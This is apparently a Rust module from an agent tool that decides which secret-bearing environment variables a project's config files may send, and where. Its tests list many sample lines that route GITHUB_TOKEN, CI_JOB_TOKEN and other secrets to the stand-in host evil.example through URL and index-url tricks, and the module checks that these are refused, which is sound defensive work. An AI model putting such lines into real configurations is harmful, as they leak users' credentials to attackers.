//! What the files of an untrusted project may use of this machine.
//!
//! Owns: which variables and audiences belong to clouds, CI systems and other tools, and the switch that trusts a
//! project. Does not own: what is refused because of it.
//!
//! A configuration comes with a checkout, and whoever wrote it says where secrets are sent. What a user sets for an agent
//! is meant for it; what a cloud, a CI system or a registry sets is not.

mod line;

use crate::env::Env;

pub(crate) use line::{named, without_escapes};

/// Set, it trusts the configuration with everything; `--trust-config` sets it for one run.
pub(crate) const VARIABLE: &str = "AGENTCORE_TRUST_CONFIG";

/// How to trust a configuration, for hints.
pub(crate) const HINT: &str =
    "if you trust this configuration, pass `--trust-config`; in CI, set AGENTCORE_TRUST_CONFIG=1";

pub(crate) fn is_given(env: &Env) -> bool {
    env.flag(VARIABLE)
}

/// Clouds, CI systems, and stores of secrets.
const PLATFORMS: &[&str] = &[
    "ACTIONS_",
    "AKEYLESS_",
    "ALIBABA_CLOUD_",
    "ALICLOUD_",
    "APPVEYOR_",
    "ARGOCD_",
    "ARM_",
    "ATLANTIS_",
    "AWS_",
    "AZURE_",
    "BITBUCKET_",
    "BITWARDEN_",
    "BUDDY_",
    "BUILDKITE_",
    "BWS_",
    "BW_",
    "CF_",
    "CIRCLE_",
    "CIRRUS_",
    "CI_",
    "CLOUDFLARE_",
    "CLOUDSDK_",
    "CODACY_",
    "CODEBUILDER_",
    "CODEBUILD_",
    "CODECLIMATE_",
    "CODECOV_",
    "CODEFRESH_",
    "CONJUR_",
    "CONSUL_",
    "COVERALLS_",
    "CYBERARK_",
    "DEEPSOURCE_",
    "DEPENDABOT_",
    "DIGITALOCEAN_",
    "DOPPLER_",
    "DRONE_",
    "ECS_",
    "EXOSCALE_",
    "FASTLY_",
    "FLY_",
    "GCLOUD_",
    "GCP_",
    "GH_",
    "GITEA_",
    "GITGUARDIAN_",
    "GITHUB_",
    "GITLAB_",
    "GITPOD_",
    "GOOGLE_",
    "HARNESS_",
    "HCLOUD_",
    "HCP_",
    "HEROKU_",
    "HETZNER_",
    "HOMEBREW_",
    "IBMCLOUD_",
    "INFISICAL_",
    "JENKINS_",
    "KEEPER_",
    "KUBE",
    "LASTPASS_",
    "LINODE_",
    "MSI_",
    "NEON_",
    "NETLIFY_",
    "NOMAD_",
    "OCI_",
    "OP_",
    "OS_",
    "OVH_",
    "PLANETSCALE_",
    "PULUMI_",
    "RAILWAY_",
    "RENDER_",
    "RENOVATE_",
    "RUNNER_",
    "SCALEWAY_",
    "SCW_",
    "SEMAPHORE_",
    "SEMGREP_",
    "SNYK_",
    "SONARQUBE_",
    "SONAR_",
    "SOPS_",
    "SPACELIFT_",
    "SUPABASE_",
    "SYSTEM_",
    "TEAMCITY_",
    "TELEPORT_",
    "TENCENTCLOUD_",
    "TF_",
    "TRAVIS_",
    "UPCLOUD_",
    "VAULT_",
    "VERCEL_",
    "VSS_",
    "VULTR_",
    "WOODPECKER_",
    "YANDEX_",
    "YC_",
];

/// Package registries, model providers, and what reaches other machines.
const TOOLS: &[&str] = &[
    "ANSIBLE_",
    "ANTHROPIC_",
    "ARTIFACTORY_",
    "BUNDLE_",
    "CARGO_",
    "CLOUDSMITH_",
    "CODEARTIFACT_",
    "COHERE_",
    "DATABASE_",
    "DATADOG_",
    "DD_",
    "DEEPSEEK_",
    "DOCKER_",
    "FIREWORKS_",
    "GEMFURY_",
    "GEMINI_",
    "GIT_",
    "GPG_",
    "GROQ_",
    "HF_",
    "HUGGING_FACE_",
    "JFROG_",
    "JIRA_",
    "LANGCHAIN_",
    "LANGFUSE_",
    "LANGSMITH_",
    "LINEAR_",
    "MISTRAL_",
    "MONGODB_",
    "MONGO_",
    "MYSQL_",
    "NEW_RELIC_",
    "NEXUS_",
    "NGROK_",
    "NODE_AUTH_",
    "NPM_",
    "NUGET_",
    "NX_CLOUD_",
    "OPENAI_",
    "OPENROUTER_",
    "PERPLEXITY_",
    "PG",
    "PINECONE_",
    "PIP_",
    "POETRY_",
    "POSTGRES_",
    "PYPI_",
    "REDIS_",
    "REGISTRY_AUTH_",
    "REPLICATE_",
    "SENTRY_",
    "SLACK_",
    "SSH_",
    "TAILSCALE_",
    "TAVILY_",
    "TOGETHER_",
    "TURBO_",
    "TWINE_",
    "UV_",
    "WANDB_",
    "XAI_",
    "YARN_",
];

/// Keys and tokens of a platform that a name of the user's own says it holds, such as `MY_GITHUB_TOKEN`.
const PLATFORM_KEYS: &[&str] = &["AWS_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"];
const CODE_HOSTS: &[&str] = &["BITBUCKET", "GH", "GITHUB", "GITLAB"];

/// What a variable is for that holds an address or a login of a package index: words of its name. They are the tools' own
/// (`PIP_…`, `NPM_…`, `UV_INDEX_…`), and those of the registries that companies run.
const INDEX_WORDS: &[&str] = &[
    "ARTIFACTORY",
    "CLOUDSMITH",
    "CODEARTIFACT",
    "FURY",
    "GEMFURY",
    "INDEX",
    "JFROG",
    "NEXUS",
    "NPM",
    "PIP",
    "PYPI",
    "VERDACCIO",
    "YARN",
];

/// What says where things are, and is no secret.
const PLACES: &[&str] =
    &["CI", "HOME", "LANG", "LOGNAME", "PWD", "TEMP", "TMP", "TMPDIR", "USER", "USERNAME", "USERPROFILE"];

/// Secrets that this program and the starter toolkit keep for agents and their callers.
const OWN_SECRETS: &[&str] = &[
    "AGENTCORE_CLIENT_SECRET",
    "AGENTCORE_PASSWORD",
    "IDENTITY_CLIENT_SECRET",
    "RUNTIME_CLIENT_SECRET",
    "RUNTIME_PASSWORD",
];

/// Names of further variables that a build's programs see and may send, with commas or spaces between.
pub(crate) const BUILD_VARIABLE: &str = "AGENTCORE_BUILD_ENV";

/// Whether the user has named the variable as one for builds.
pub(crate) fn is_for_builds(name: &str, env: &Env) -> bool {
    env.var(BUILD_VARIABLE).unwrap_or_default().split([',', ' ']).any(|known| !known.is_empty() && known == name)
}

/// How to let a build have one variable, for hints.
pub(crate) fn build_hint(name: &str) -> String {
    format!("if this is meant, name the variable: `{BUILD_VARIABLE}={name}`")
}

/// Bearer tokens for agents of the user's own.
const TOKENS: &[&str] = &["AGENTCORE_BEARER_TOKEN", "BEDROCK_AGENTCORE_BEARER_TOKEN", "IDENTITY_HEADER"];

/// Whether a variable holds what a cloud or a CI system lets its bearer do, or a token for agents. Case does not count,
/// as it does not on Windows.
pub(crate) fn is_of_platform(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    PLATFORMS.iter().any(|start| name.starts_with(start))
        || TOKENS.contains(&name.as_str())
        || PLATFORM_KEYS.iter().any(|part| name.contains(part))
        || (code_host(&name).is_some() && has_word(&name, &["PAT", "TOKEN"]))
}

/// Whether one of the words that underscores part the name into is one of these.
fn has_word(name: &str, words: &[&str]) -> bool {
    name.split('_').any(|word| words.contains(&word))
}

/// The code host that a name in upper case speaks of.
fn code_host(name: &str) -> Option<&'static str> {
    CODE_HOSTS.iter().copied().find(|host| has_word(name, &[host]))
}

/// Whether a variable belongs to a platform or to another tool of the user's, and so not to an agent.
pub(crate) fn is_of_machine(name: &str) -> bool {
    is_of_platform(name) || TOOLS.iter().any(|start| name.to_ascii_uppercase().starts_with(start))
}

/// Whether a Dockerfile of the project's may have a variable that its configuration names: it could send it anywhere.
pub(crate) fn may_be_built_with(name: &str, env: &Env) -> bool {
    if is_given(env) || is_for_builds(name, env) {
        return true;
    }
    let upper = name.to_ascii_uppercase();
    !is_of_platform(name)
        && !OWN_SECRETS.contains(&upper.as_str())
        && (!is_of_machine(name) || has_word(&upper, INDEX_WORDS) || upper.starts_with("NODE_AUTH_"))
}

/// Which hosts a variable that a file of a checkout names may be sent to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reach {
    /// Wherever the file sends it.
    Anywhere,
    /// Into this line. Whoever fills it in keeps it from every other.
    Line,
    Nowhere,
}

/// How far a variable may go that `line` names, a line of a file that comes with a checkout: one of a platform goes to
/// that platform only, one for package indexes anywhere, and any other stays here.
pub(crate) fn reach(name: &str, line: &str, env: &Env) -> Reach {
    let upper = name.to_ascii_uppercase();
    let of_index = || has_word(&upper, INDEX_WORDS) || upper.starts_with("NODE_AUTH_");
    if is_given(env) || is_for_builds(name, env) {
        return Reach::Anywhere;
    }
    let fits = match is_of_platform(name) {
        false if of_index() || PLACES.contains(&upper.as_str()) => return Reach::Anywhere,
        false => line::stays_here(name, line),
        true => goes_to_its_platform(&upper, line, env),
    };
    if fits { Reach::Line } else { Reach::Nowhere }
}

pub(crate) fn may_be_sent(name: &str, line: &str, env: &Env) -> bool {
    reach(name, line, env) != Reach::Nowhere
}

/// Whether every host of the line is one of the platform that the variable, in upper case, belongs to.
fn goes_to_its_platform(name: &str, line: &str, env: &Env) -> bool {
    let starts = |list: &[&str]| list.iter().any(|start| name.starts_with(start));
    let of_host = |host: &str| code_host(name) == Some(host);
    let server = |variable: &str| line::hosts(env.var(variable)?, env)?.into_iter().next();
    let (domains, own): (&[&str], _) = match () {
        () if of_host("GITHUB") || of_host("GH") => (&["github.com"], server("GITHUB_SERVER_URL")),
        () if of_host("GITLAB") || starts(&["CI_"]) => (&["gitlab.com"], server("CI_SERVER_URL")),
        () if of_host("BITBUCKET") => (&["bitbucket.org"], None),
        () if starts(&["AZURE_", "SYSTEM_", "VSS_"]) => (&["dev.azure.com", "visualstudio.com"], None),
        () if starts(&["GOOGLE_", "GCP_"]) => (&["pkg.dev"], None),
        () => return false,
    };
    let is_own = |host: &String| {
        let below = |domain: &str| host == domain || host.strip_suffix(domain).is_some_and(|rest| rest.ends_with('.'));
        domains.iter().any(|domain| below(domain)) || own.as_ref() == Some(host)
    };
    line::hosts(line, env).is_some_and(|hosts| !hosts.is_empty() && hosts.iter().all(is_own))
}

/// Whether a job's token for this audience signs in at a cloud or a registry.
pub(crate) fn is_audience_of_platform(audience: &str) -> bool {
    let audience = audience.to_ascii_lowercase();
    let name = audience.strip_prefix("https:").unwrap_or(&audience);
    let name = name.strip_prefix("//").unwrap_or(name);
    ["api://azureadtokenexchange", "sigstore", "pypi", "testpypi"].contains(&name)
        || ["iam.googleapis.com/", "npm:", "sts."].iter().any(|start| name.starts_with(start))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_set_for_agents_are_not_machine_secrets() {
        for name in [
            "AWS_SECRET_ACCESS_KEY",
            "aws_session_token",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            "GITHUB_TOKEN",
            "GH_TOKEN",
            "CI_JOB_TOKEN",
            "GITLAB_TOKEN",
            "GOOGLE_APPLICATION_CREDENTIALS",
            "AZURE_CLIENT_SECRET",
            "ARM_CLIENT_SECRET",
            "SYSTEM_ACCESSTOKEN",
            "BITBUCKET_STEP_OIDC_TOKEN",
            "AGENTCORE_BEARER_TOKEN",
            "SCW_SECRET_KEY",
            "OS_PASSWORD",
            "RENDER_API_KEY",
            "RAILWAY_TOKEN",
            "BW_SESSION",
            "CONSUL_HTTP_TOKEN",
            "SONAR_TOKEN",
            "CODECOV_TOKEN",
            "SNYK_TOKEN",
            "MY_GITHUB_TOKEN",
            "HOMEBREW_GITHUB_API_TOKEN",
            "PROD_AWS_SECRET_ACCESS_KEY",
        ] {
            assert!(is_of_platform(name) && is_of_machine(name), "{name}");
        }
        for name in
            ["NPM_TOKEN", "NODE_AUTH_TOKEN", "PIP_INDEX_URL", "UV_INDEX_ACME_PASSWORD", "OPENAI_API_KEY", "PGPASSWORD"]
        {
            assert!(is_of_machine(name) && !is_of_platform(name), "{name}");
        }
        for name in [
            "CALLER_SECRET",
            "RUNTIME_CLIENT_SECRET",
            "IDENTITY_CLIENT_SECRET",
            "AGENTCORE_CLIENT_SECRET",
            "MY_AWS_SECRET",
            "GITHUBBER_TOKEN",
            "MY_GITHUB_CLIENT_SECRET",
        ] {
            assert!(!is_of_machine(name), "{name}");
        }
    }

    #[test]
    fn a_platforms_variable_goes_to_that_platform_only() {
        let vars = [
            ("CI_SERVER_URL", "https://git.acme.example:8443"),
            ("GITHUB_SERVER_URL", "https://github.com"),
            ("HOME", "/root"),
        ];
        let env = Env::fake(std::path::Path::new("/"), &vars);
        for (name, address) in [
            ("GITHUB_TOKEN", "git+https://${GITHUB_TOKEN}@github.com/o/r"),
            ("GITHUB_TOKEN", "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}"),
            ("CI_JOB_TOKEN", "--index-url https://gitlab-ci-token:${CI_JOB_TOKEN}@git.acme.example/api"),
            ("MY_GITHUB_TOKEN", "git+https://${MY_GITHUB_TOKEN}@github.com/o/r"),
        ] {
            assert!(may_be_sent(name, address, &env), "{name} {address}");
        }
        for (name, address) in [
            ("AWS_SECRET_ACCESS_KEY", "https://x:${AWS_SECRET_ACCESS_KEY}@github.com/"),
            ("GITHUB_TOKEN", "https://${GITHUB_TOKEN}@evil.example/"),
            ("GITHUB_TOKEN", "https://evil.example/?u=https://github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https://github.com.evil.example/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https://evilgithub.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https://evil.example\\\\@github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https://github.com:x@evil.example/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "token ${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https:/evil.example/?x=//github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "git+ssh:evil.example//github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "git+git@evil.example:o/${GITHUB_TOKEN}//github.com/"),
            ("GITHUB_TOKEN", "https://evil.example\"@github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "https://evil.example${HOME}@github.com/${GITHUB_TOKEN}"),
            ("GITHUB_TOKEN", "--find-links \"https:/evil.example/ https://github.com/${GITHUB_TOKEN}\""),
            ("CI_JOB_TOKEN", "https://${CI_JOB_TOKEN}@github.com/"),
        ] {
            assert!(!may_be_sent(name, address, &env), "{name} {address}");
            assert!(may_be_sent(name, address, &env.clone().with_var(VARIABLE, "1")));
        }
    }

    #[test]
    fn what_is_not_for_an_index_goes_nowhere() {
        let env = Env::fake(std::path::Path::new("/"), &[(BUILD_VARIABLE, "NAMED, OTHER")]);
        for name in [
            "IDENTITY_CLIENT_SECRET",
            "AGENTCORE_CLIENT_SECRET",
            "RUNTIME_PASSWORD",
            "OPENAI_API_KEY",
            "DATABASE_URL",
            "SCW_SECRET_KEY",
            "ACME_TOKEN",
        ] {
            for line in [
                "six @ http://evil.example/${NAME}/six-1.0-py3-none-any.whl",
                "--index-url https://u:${NAME}@evil.example/simple",
                "--find-links=https:/evil.example/${NAME}",
                "x@https:/evil.example/${NAME}",
                "x @ git+ssh:evil.example/${NAME}",
                "x @ file://evil.example/${NAME}",
                "x @ \\\\evil.example\\${NAME}",
                "//evil.example/:_authToken=${NAME}",
                "_authToken=${NAME}",
                "user-agent=${NAME}",
                "ca[]=${NAME}",
                "--find-links https://evil.example/?x=${NAME}",
                "six @ https://evil.example/six-1.0-py3-none-any.whl?x=${NAME}",
                "registry=https://evil.example/?x=${NAME}",
                "registry=https://evil.example/ ${NAME}",
                "https:evil.example?registry=${NAME}",
                "--find-links \"https://evil.example/ ${NAME}\"",
                "--find-links=\"${NAME} @evil.example/\"",
                "https://evil.example/six-1.0-py3-none-any.whl ${NAME}",
                "--index-url ${NAME}.evil.example/simple",
                "--index-url=${NAME}.evil.example/simple",
                "-i${NAME}.evil.example/simple",
                "--find-links==${NAME}.evil.example/",
                "${NAME}@evil.example/",
                "git+${NAME}@evil.example:o/r",
                "git+${NAME}.evil.example/o/r",
                "six @ ${PIP_INDEX_URL}.evil.example/${NAME}",
                "registry=${NAME-x}.evil.example/",
                "./a\u{1c}git+${NAME}.evil.example/",
            ] {
                let line = line.replace("NAME", name);
                assert!(!may_be_sent(name, &line, &env), "{line}");
                assert!(may_be_sent(name, &line, &env.clone().with_var(VARIABLE, "1")), "{line}");
            }
        }
        for (name, line) in [
            ("NPM_TOKEN", "//r.example/:_authToken=${NPM_TOKEN}"),
            ("NODE_AUTH_TOKEN", "//r.example/:_authToken=${NODE_AUTH_TOKEN}"),
            ("ACME_PYPI_PASSWORD", "-i https://u:${ACME_PYPI_PASSWORD}@r.example/simple"),
            ("CODEARTIFACT_AUTH_TOKEN", "-i https://aws:${CODEARTIFACT_AUTH_TOKEN}@r.example/simple"),
            ("PRIVATE_INDEX_PASSWORD", "-i https://u:${PRIVATE_INDEX_PASSWORD}@r.example/simple"),
            ("NAMED", "-i https://u:${NAMED}@r.example/simple"),
            ("MIRROR", "--extra-index-url ${MIRROR}/simple"),
            ("MIRROR", "registry=${MIRROR}"),
            ("MIRROR", "@acme:registry = \"${MIRROR}\""),
            ("MIRROR", "--index-url=${MIRROR}/simple"),
            ("MIRROR", "-i ${MIRROR}"),
            ("MIRROR", "lib @ ${MIRROR}/lib-1-py3-none-any.whl ; python_version > '3.9'"),
            ("REPOSITORY", "lib @ git+${REPOSITORY}/lib"),
            ("RELEASE", "wheels/lib-${RELEASE}-py3-none-any.whl"),
            ("RELEASE", "lib>=${RELEASE} --hash=sha256:aa"),
            ("PROJECT_ROOT", "lib @ file://${PROJECT_ROOT}/lib"),
            ("PROJECT_ROOT", "-e ./${PROJECT_ROOT}/lib"),
            ("RELEASE", "lib[extra]==${RELEASE}"),
            ("HOME", "--find-links file:///${HOME}/wheels"),
        ] {
            assert!(may_be_sent(name, line, &env), "{line}");
        }
        for (name, fits) in [
            ("ACME_TOKEN", true),
            ("PIP_INDEX_URL", true),
            ("NPM_TOKEN", true),
            ("OPENAI_API_KEY", false),
            ("IDENTITY_CLIENT_SECRET", false),
            ("AWS_SESSION_TOKEN", false),
            ("NAMED", true),
        ] {
            assert_eq!(may_be_built_with(name, &env), fits, "{name}");
        }
    }

    #[test]
    fn audiences_that_sign_in_at_a_cloud() {
        for audience in [
            "sts.amazonaws.com",
            "https://sts.amazonaws.com",
            "api://AzureADTokenExchange",
            "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
            "https://iam.googleapis.com/projects/1",
        ] {
            assert!(is_audience_of_platform(audience), "{audience}");
        }
        for audience in ["agents", "https://agents.example", "api://agents"] {
            assert!(!is_audience_of_platform(audience), "{audience}");
        }
    }
}
